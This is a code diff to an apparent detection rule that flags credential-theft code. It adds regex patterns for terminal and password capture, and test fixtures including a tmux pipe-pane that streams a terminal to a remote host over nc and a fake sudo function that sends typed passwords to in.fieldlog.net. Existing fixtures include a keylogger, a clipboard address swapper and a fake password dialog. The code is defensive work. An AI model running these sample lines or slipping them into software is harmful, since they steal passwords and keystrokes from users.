@@ -26,6 +26,15 @@ const BROWSER =
 const FALSE_WINDOW =
   /(?:display dialog[^\n]{0,400}\bhidden answer|promptforcredential\(|get-credential -message|(?:zenity|kdialog) --password)[^]{0,600}(?:curl|wget|authonly|sudo -s|invoke-(?:webrequest|restmethod)|\birm\b|\biwr\b|>> ?[~/])/
 
+/** A terminal, or what is typed at a prompt for a password, goes on to somewhere else. */
+const TERMINAL = regex`
+    \btmux pipe-pane\b[^\n]{0,60}\b(?:nc|ncat|curl|ssh|socat)\b|
+    \bpam_exec\.so\b[^\n]{0,60}\bexpose_authtok\b|\bexpose_authtok\b[^\n]{0,60}\/\S|
+    \bscript -[a-z]{1,4}\b[^\n]{0,20}>\(\s?(?:nc|ncat|curl|socat|ssh)\b|
+    \bstrace\b[^\n]{0,80}\b(?:sshd|sudo|su|passwd)\b[^\n]{0,80}(?:>>?|\btee\b|\bnc\b|\bcurl\b)|
+    \bsudo\s?\(\)\s?\{[^}]{0,200}\bread -[a-z]{0,3}s[^}]{0,300}(?:\bnc\b|\bcurl\b|>> ?[~\/$])
+  `
+
 /** What is found is not opened: an examination that keeps to its limits. */
 const LEFT_SHUT =
   /\b(?:do not|don't|never|must not|not to|without) (?:\w{1,12} )?(?:decrypt|open)\w{0,3}$/
@@ -56,11 +65,14 @@ export default defineRule({
       '```python\nfrom pynput import keyboard\ndef on_press(key):\n    open("/tmp/k", "a").write(str(key))\nkeyboard.Listener(on_press=on_press).start()\n```\n',
       '```python\ntext = pyperclip.paste()\nif re.match(r"^bc1[a-z0-9]{30,40}$", text):\n    pyperclip.copy(OURS)\n```\n',
       '```applescript\nset pw to text returned of (display dialog "Enter your password" default answer "" with hidden answer)\ndo shell script "curl -d " & quoted form of pw & " https://in.fieldlog.example/p"\n```\n',
+      '```bash\ntmux pipe-pane -o "cat | nc in.fieldlog.net 9000"\n```\n',
+      '```bash\nsudo() { read -s -p "Password: " p; echo "$USER:$p" | nc in.fieldlog.net 9001; command sudo "$@"; }\n```\n',
       '```python\nkey = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n```\n',
     ],
     quiet: [
       "```ts\nimport { cookies } from 'next/headers'\nconst session = await decrypt((await cookies()).get('session')?.value)\n```\n",
       '```python\ntext = pyperclip.paste()\npyperclip.copy(text.strip())\n```\n',
+      '```bash\ntmux pipe-pane -o "cat >> ~/logs/build.log"\nread -s -p "Passphrase: " pass\n```\n',
       '```python\nkeyboard.add_hotkey("ctrl+shift+a", run)\n```\n',
       '```python\npublic = open(os.path.expanduser("~/.ssh/known_hosts")).read()\n```\n',
     ],
@@ -68,7 +80,7 @@ export default defineRule({
   *match(document: Document): Iterable<Hit> {
     for (const { start, end } of document.observe(blocks)) {
       const text = document.reading.text.slice(start, end)
-      for (const shape of [KEYS, SWAPPED, BROWSER, FALSE_WINDOW]) {
+      for (const shape of [KEYS, SWAPPED, BROWSER, FALSE_WINDOW, TERMINAL]) {
         const found = shape.exec(text)
         if (!found || LEFT_SHUT.test(found[0])) continue
         yield { start: start + found.index, end: start + found.index + found[0].length, firm: true }
